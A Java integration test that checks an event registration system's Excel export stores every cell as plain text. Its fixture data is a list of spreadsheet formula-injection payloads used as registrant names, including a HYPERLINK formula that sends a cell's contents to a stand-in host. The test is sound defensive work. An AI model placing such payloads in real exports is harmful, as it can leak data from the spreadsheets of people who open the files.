package org.winformusic.events.export;

import java.io.ByteArrayInputStream;
import java.util.ArrayList;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.winformusic.events.IntegrationTest;
import org.winformusic.events.TestEvents;
import org.winformusic.events.TestRegistrations;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.test.context.support.WithMockUser;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/** The Excel download: same columns and values as the CSV, every cell text. */
@IntegrationTest
@AutoConfigureMockMvc
@WithMockUser(roles = "OPS")
class ExportXlsxTests {

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcClient jdbc;

	@Test
	void everyCellIsTextWithTheStoredValueEvenFormulasAndPhoneNumbers() throws Exception {
		TestRegistrations data = new TestRegistrations(this.jdbc);
		String slug = new TestEvents(this.jdbc).event().slugPrefix("xlsx").withoutSeats().create().slug();
		List<String> payloads = List.of("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "=HYPERLINK(\"http://x?\"&A1)",
				"x\",=1+1", "José Peña 🎶 مرحبا");
		for (String payload : payloads) {
			data.in(slug).fullName(payload).phone("+52 0055 1234").status("WAITLISTED").confirmedAt(null).create();
		}

		MvcResult result = this.mvc.perform(get("/admin/events/" + slug + "/registrations.xlsx?lang=en"))
			.andExpect(status().isOk())
			.andExpect(header().string("Content-Type",
					"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"))
			.andExpect(header().string("Content-Disposition",
					org.hamcrest.Matchers.matchesPattern("attachment; filename=\"" + slug
							+ "-registrations-\\d{4}-\\d{2}-\\d{2}\\.xlsx\"; filename\\*=UTF-8''" + slug
							+ "-registrations-\\d{4}-\\d{2}-\\d{2}\\.xlsx")))
			.andExpect(header().string("Cache-Control", "no-store"))
			.andReturn();

		try (XSSFWorkbook workbook = new XSSFWorkbook(
				new ByteArrayInputStream(result.getResponse().getContentAsByteArray()))) {
			Sheet sheet = workbook.getSheetAt(0);
			assertThat(values(sheet.getRow(0))).isEqualTo(ExportCsvTests.ENGLISH_HEADERS);
			assertThat(sheet.getLastRowNum()).isEqualTo(payloads.size());
			for (int i = 0; i < payloads.size(); i++) {
				Row row = sheet.getRow(i + 1);
				assertThat(row.getLastCellNum()).isEqualTo((short) ExportCsvTests.ENGLISH_HEADERS.size());
				for (Cell cell : row) {
					assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
					assertThat(cell.getCellStyle().getDataFormatString()).isEqualTo("@");
				}
				assertThat(row.getCell(1).getStringCellValue()).isEqualTo("WAITLISTED");
				assertThat(row.getCell(2).getStringCellValue()).isEqualTo(payloads.get(i));
				assertThat(row.getCell(9).getStringCellValue()).isEqualTo("+52 0055 1234");
				assertThat(row.getCell(16).getStringCellValue()).isEqualTo("2028-03-01T10:15:00-06:00");
				assertThat(row.getCell(21).getStringCellValue()).isEqualTo(Integer.toString(i + 1));
			}
		}
	}

	static List<String> values(Row row) {
		List<String> values = new ArrayList<>();
		row.forEach((cell) -> values.add(cell.getStringCellValue()));
		return values;
	}

}
